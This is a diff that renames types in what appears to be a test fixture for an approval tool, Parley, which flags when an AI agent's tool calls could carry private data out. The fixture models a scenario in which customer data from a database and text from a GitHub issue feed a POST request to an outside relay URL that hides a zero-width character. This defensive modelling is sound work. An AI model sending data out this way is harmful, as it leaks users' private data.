@@ -1,5 +1,5 @@
-import type { FlowJoin, FlowSource } from '../../shared/domain/flow'
-import { flowWords } from '../../shared/domain/flowWords'
+import type { DataFlowFinding, DataFlowSource } from '../../shared/domain/dataFlow'
+import { describeDataFlow } from '../../shared/domain/describeDataFlow'
 import { CallId, ServerId } from '../../shared/domain/ids'
 import type { ApprovalDetails } from '../../shared/domain/question'
 
@@ -43,7 +43,7 @@ export const createIssue: ApprovalDetails = {
   ],
 }
 
-const source = (server: string, number: number, tool: string, because: string): FlowSource => ({
+const source = (server: string, number: number, tool: string, because: string): DataFlowSource => ({
   serverId: ServerId.parse(server),
   callId: CallId.parse(uuid(800 + number)),
   number,
@@ -53,7 +53,7 @@ const source = (server: string, number: number, tool: string, because: string): 
   because,
 })
 const customers = source('Postgres staging', 4, 'query', 'You said so.')
-const flow: FlowJoin = {
+const dataFlow: DataFlowFinding = {
   privateData: [customers],
   outsideText: [source('GitHub', 5, 'get_issue', 'You said so.')],
   wayOut: { serverId: ServerId.parse('Browser'), guessed: true, because: 'It says that http_request reaches outside of this computer.' },
@@ -80,7 +80,7 @@ export const sendOut: ApprovalDetails = {
   annotations: { readOnlyHint: false, destructiveHint: false, openWorldHint: true },
   inputSchema: { type: 'object', properties: { method: text, url: text, body: text }, required: ['method', 'url'] },
   arguments: { method: 'POST', url: 'https://hooks.metrics-relay.net/v1/collect?src=release\u200B-notes', body },
-  why: flowWords(flow),
+  why: describeDataFlow(dataFlow),
   history: { allowed: 0, denied: 1, last: { verdict: 'denied', at: Date.now() - 14 * minute } },
   readOnlyRuleOffered: false,
   stands: [
@@ -91,7 +91,7 @@ export const sendOut: ApprovalDetails = {
       because: 'no rule allows what could carry private data out',
     },
   ],
-  flow,
+  dataFlow,
   traces: traced,
   noRule: 'Where private data could flow out, Parley asks each time.',
 }
